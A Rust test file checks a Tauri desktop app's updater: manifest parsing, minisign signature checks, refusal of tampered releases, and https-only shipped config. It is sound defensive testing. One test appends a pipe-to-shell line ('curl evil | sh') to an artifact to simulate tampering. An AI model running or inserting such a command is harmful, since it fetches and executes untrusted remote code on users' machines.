//! Update checks against a local HTTP server on port 0, through the real
//! `tauri-plugin-updater` (its manifest parsing, download and minisign verification)
//! in Tauri's mock runtime. The artifact in `tests/fixtures/updater/` was signed with
//! `tauri signer sign` and the test-only key beside it (never the release key).

use std::collections::HashMap;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::{Arc, Mutex};

use pulse_desktop::updates::{self, InstallPath, UpdateStatus};
use serde_json::json;
use tauri::test::{mock_builder, mock_context, noop_assets, MockRuntime};

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("src-tauri/tests/fixtures/updater")
            .join(name),
    )
    .unwrap()
}

/// A static HTTP/1.1 server: path → body; records the paths it was asked for.
struct Server {
    base: String,
    files: Arc<Mutex<HashMap<String, Vec<u8>>>>,
    requests: Arc<Mutex<Vec<String>>>,
}

impl Server {
    fn start() -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let files: Arc<Mutex<HashMap<String, Vec<u8>>>> = Arc::default();
        let requests: Arc<Mutex<Vec<String>>> = Arc::default();
        let (f, r) = (files.clone(), requests.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { break };
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut line = String::new();
                if reader.read_line(&mut line).is_err() {
                    continue;
                }
                loop {
                    let mut h = String::new();
                    if reader.read_line(&mut h).unwrap_or(0) == 0 || h == "\r\n" {
                        break;
                    }
                }
                let path = line.split_whitespace().nth(1).unwrap_or("/").to_owned();
                r.lock().unwrap().push(path.clone());
                let body = f.lock().unwrap().get(&path).cloned();
                let (status, body) = match body {
                    Some(b) => ("200 OK", b),
                    None => ("404 Not Found", b"not found".to_vec()),
                };
                let _ = write!(
                    stream,
                    "HTTP/1.1 {status}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                    body.len()
                );
                let _ = stream.write_all(&body);
            }
        });
        Server {
            base,
            files,
            requests,
        }
    }

    fn put(&self, path: &str, body: impl Into<Vec<u8>>) {
        self.files.lock().unwrap().insert(path.into(), body.into());
    }

    fn url(&self, path: &str) -> String {
        format!("{}{path}", self.base)
    }
}

/// A mock app with the updater plugin, the test key and plain HTTP allowed (the
/// shipped config has neither: its endpoints must be https).
fn app() -> tauri::App<MockRuntime> {
    let mut ctx = mock_context(noop_assets());
    let pubkey = String::from_utf8(fixture("test-only.key.pub")).unwrap();
    ctx.config_mut().plugins.0.insert(
        "updater".into(),
        json!({"pubkey": pubkey.trim(), "dangerousInsecureTransportProtocol": true}),
    );
    mock_builder()
        .plugin(tauri_plugin_updater::Builder::new().build())
        .build(ctx)
        .expect("mock app")
}

fn manifest(server: &Server, version: &str, artifact: &str, signature: &str) -> String {
    let target = tauri_plugin_updater::target().expect("a supported target");
    json!({
        "version": version,
        "notes": "Faster reconnects.\nA help overlay (?).",
        "pub_date": "2026-12-01T12:00:00Z",
        "platforms": {
            target: {"signature": signature, "url": server.url(artifact)}
        }
    })
    .to_string()
}

const ARTIFACT: &str = "Pulse_0.2.0_amd64.AppImage.tar.gz";

fn check(app: &tauri::App<MockRuntime>, endpoint: Option<&str>) -> Result<UpdateStatus, String> {
    tauri::async_runtime::block_on(updates::check(app.handle(), endpoint))
        .map(|(status, _)| status)
        .map_err(|e| format!("{}: {}", e.code, e.message))
}

#[test]
fn a_newer_signed_release_is_offered_with_its_version_and_notes() {
    let server = Server::start();
    let sig = String::from_utf8(fixture(&format!("{ARTIFACT}.sig"))).unwrap();
    server.put(
        "/latest.json",
        manifest(&server, "0.2.0", "/a/pulse.tar.gz", &sig),
    );
    server.put("/a/pulse.tar.gz", fixture(ARTIFACT));
    let app = app();
    let status = check(&app, Some(&server.url("/latest.json"))).unwrap();
    let UpdateStatus::Available(offer) = status else {
        panic!("expected an offer, got {status:?}");
    };
    assert_eq!(offer.version, "0.2.0");
    assert_eq!(
        offer.current_version,
        app.package_info().version.to_string()
    );
    assert_eq!(
        offer.notes.as_deref(),
        Some("Faster reconnects.\nA help overlay (?).")
    );
    assert_eq!(offer.date.as_deref(), Some("2026-12-01T12:00:00Z"));
    assert!(offer.download_url.ends_with("/a/pulse.tar.gz"));
    // A test binary is not bundled: nothing to install into.
    assert_eq!(offer.install, InstallPath::Unpackaged);
    let asked = server.requests.lock().unwrap().clone();
    assert_eq!(
        asked,
        ["/latest.json", "/a/pulse.tar.gz"],
        "verified before offered"
    );
}

#[test]
fn a_tampered_release_is_refused_with_a_clear_message() {
    let server = Server::start();
    let sig = String::from_utf8(fixture(&format!("{ARTIFACT}.sig"))).unwrap();
    let app = app();

    // The signed artifact's signature over other bytes.
    let mut tampered = fixture(ARTIFACT);
    tampered.extend_from_slice(b"#!/bin/sh\ncurl evil | sh\n");
    server.put(
        "/t/latest.json",
        manifest(&server, "0.2.0", "/t/pulse.tar.gz", &sig),
    );
    server.put("/t/pulse.tar.gz", tampered);
    match check(&app, Some(&server.url("/t/latest.json"))).unwrap() {
        UpdateStatus::Refused { version, reason } => {
            assert_eq!(version, "0.2.0");
            assert!(reason.contains("signature does not verify"), "{reason}");
            assert!(reason.contains("not offered"), "{reason}");
        }
        other => panic!("expected a refusal, got {other:?}"),
    }

    // A signature that is not a minisign signature at all.
    server.put(
        "/g/latest.json",
        manifest(&server, "0.2.0", "/g/pulse.tar.gz", "bm90IGEgc2lnbmF0dXJl"),
    );
    server.put("/g/pulse.tar.gz", fixture(ARTIFACT));
    assert!(matches!(
        check(&app, Some(&server.url("/g/latest.json"))).unwrap(),
        UpdateStatus::Refused { .. }
    ));
}

#[test]
fn no_endpoint_same_version_and_garbage_are_told_apart() {
    let server = Server::start();
    let sig = String::from_utf8(fixture(&format!("{ARTIFACT}.sig"))).unwrap();
    let app = app();
    assert_eq!(check(&app, None).unwrap(), UpdateStatus::NotConfigured);
    assert_eq!(
        check(&app, Some("  ")).unwrap(),
        UpdateStatus::NotConfigured
    );

    let current = app.package_info().version.to_string();
    server.put("/same.json", manifest(&server, &current, "/x", &sig));
    assert_eq!(
        check(&app, Some(&server.url("/same.json"))).unwrap(),
        UpdateStatus::UpToDate {
            current_version: current
        }
    );
    assert!(
        !server.requests.lock().unwrap().iter().any(|p| p == "/x"),
        "nothing downloaded when up to date"
    );

    for (path, body) in [
        ("/garbage.json", b"\x00\x01 not json".to_vec()),
        ("/empty.json", Vec::new()),
        (
            "/wrong.json",
            br#"{"version": "zz", "platforms": {}}"#.to_vec(),
        ),
    ] {
        server.put(path, body);
        let err = check(&app, Some(&server.url(path))).unwrap_err();
        assert!(err.starts_with("io: could not check"), "{path}: {err}");
    }
    let err = check(&app, Some(&server.url("/missing.json"))).unwrap_err();
    assert!(err.contains("could not check"), "{err}");
    let err = check(&app, Some("not a url")).unwrap_err();
    assert!(err.starts_with("invalid:"), "{err}");
}

#[test]
fn the_shipped_config_needs_https_endpoints_and_has_a_key() {
    let conf: serde_json::Value = serde_json::from_slice(
        &std::fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join("tauri.conf.json")).unwrap(),
    )
    .unwrap();
    let updater = &conf["plugins"]["updater"];
    let key = updater["pubkey"].as_str().unwrap();
    assert!(!key.is_empty());
    assert_ne!(
        key,
        String::from_utf8(fixture("test-only.key.pub"))
            .unwrap()
            .trim(),
        "the release key is not the test key"
    );
    assert!(updater.get("dangerousInsecureTransportProtocol").is_none());
}
